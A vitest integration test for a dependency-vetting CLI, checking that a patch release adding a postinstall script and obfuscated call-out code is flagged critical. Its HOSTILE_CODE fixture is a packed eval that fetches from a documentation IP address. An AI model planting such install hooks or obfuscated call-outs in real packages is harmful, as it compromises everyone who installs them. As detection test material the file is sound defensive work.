import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import type { PackageFiles } from '../helpers/pack.js';
import { libraryPackage, testServerPackage } from '../helpers/test-packages.js';
import { startRegistry, type LocalRegistry } from '../helpers/verdaccio.js';

interface JsonFinding {
  code: string;
  severity: string;
  subject: string;
  location?: { kind: string; name?: string };
  evidence?: Record<string, unknown>;
}
interface JsonReport {
  verdict: string;
  subjects: Array<{ name: string; verdict: string }>;
  findings: JsonFinding[];
}

const DAY = 86_400_000;
/** Calls out to a documentation address (never routed) through packed eval, as a hostile patch would. */
const HOSTILE_CODE = `eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0("1")',2,2,'fetch|http://203.0.113.9:8443/p'.split('|'),0,{}));\n`;

/** The library the server depends on, at `version`; `hostile` adds a postinstall script and obfuscated code calling out. */
function lib(version: string, hostile = false): PackageFiles {
  const files = libraryPackage('cr-lib', version);
  if (!hostile) return { ...files, 'index.js': `${String(files['index.js'])}export const pad = (s) => ' ' + s;\n` };
  const pj = JSON.parse(String(files['package.json'])) as Record<string, unknown>;
  pj['scripts'] = { postinstall: 'node setup.js' };
  return { ...files, 'package.json': JSON.stringify(pj), 'setup.js': HOSTILE_CODE };
}

describe('transitive patch releases judged by content, through the built binary and a real local registry', () => {
  let reg: LocalRegistry;
  let env: NodeJS.ProcessEnv;
  let ws: string;
  const cli = (args: string[]) => runCli(args, { cwd: ws, env, timeoutMs: 180_000 });
  /** A local registry lets the test say when a version was published: its packument `time`. */
  const publishedAgo = async (name: string, version: string, days: number) => {
    const file = join(reg.storage, name, 'package.json');
    const doc = JSON.parse(await readFile(file, 'utf8')) as { time: Record<string, string> };
    doc.time[version] = new Date(Date.now() - days * DAY).toISOString();
    await writeFile(file, JSON.stringify(doc));
  };
  const ofLib = (r: JsonReport) => r.findings.filter((f) => f.location?.name === 'node_modules/cr-lib');

  beforeAll(async () => {
    reg = await startRegistry();
    env = await reg.npmEnv();
    await reg.publish(lib('1.0.0'));
    await publishedAgo('cr-lib', '1.0.0', 300);
    await reg.publish(testServerPackage({ name: 'cr-server', version: '1.0.0', dependencies: { 'cr-lib': '^1.0.0' } }));
    ws = await mkdtemp(join(tmpdir(), 'mcp-vet-closure-'));
    await runCli(['init'], { cwd: ws, env });
    const added = await cli(['add', 'cr-server@1.0.0', '--by', 'tests']);
    expect(added.code, added.stderr).toBe(0);
  }, 180_000);
  afterAll(async () => reg?.stop());

  it('a clean patch out for a month: info, verify exits 0 at the default --fail-on, drift does not say review', async () => {
    await reg.publish(lib('1.0.1'));
    await publishedAgo('cr-lib', '1.0.1', 30);
    const r = await cli(['verify', 'cr-server', '--format', 'json']);
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(ofLib(report).map((f) => [f.code, f.severity])).toEqual([['package/closure-version-changed', 'info']]);
    expect(ofLib(report)[0]?.evidence).toMatchObject({ package: 'cr-lib 1.0.0 -> 1.0.1', reviewed: true, ageDays: 30 });
    expect(r.code).toBe(0);
    const text = await cli(['verify', 'cr-server']);
    expect(text.code).toBe(0);
    expect(text.stdout).toMatch(/closure \(1 of 2 packages\)/);
    const drift = JSON.parse((await cli(['drift', '--format', 'json'])).stdout) as JsonReport;
    expect(drift.subjects.map((s) => [s.name, s.verdict])).toEqual([['cr-server', 'pass']]);
    expect(drift.verdict).toBe('pass');
  }, 180_000);

  it('a hostile patch published today (postinstall, obfuscated call-out): critical, naming the library, exit 1', async () => {
    await reg.publish(lib('1.0.2', true));
    const r = await cli(['verify', 'cr-server', '--format', 'json']);
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(ofLib(report).map((f) => [f.code, f.severity])).toEqual([
      ['package/closure-dependency-hostile', 'critical'],
    ]);
    const f = ofLib(report)[0]!;
    expect(f.subject).toBe('cr-server@1.0.0');
    expect(f.evidence).toMatchObject({ package: 'cr-lib 1.0.0 -> 1.0.2', after: 'cr-lib@1.0.2' });
    const signals = (f.evidence?.['signals'] as Array<{ code: string }>).map((s) => s.code);
    expect(signals).toEqual(expect.arrayContaining(['package/install-script-added', 'package/obfuscated-code-added']));
    expect(r.code).toBe(1);
    const text = await cli(['verify', 'cr-server']);
    expect(text.stdout).toMatch(/critical +package\/closure-dependency-hostile \(dependency node_modules\/cr-lib\)/);
    expect(text.stdout).toContain('cr-lib 1.0.0 -> 1.0.2');
    expect(text.code).toBe(1);
  }, 180_000);
});
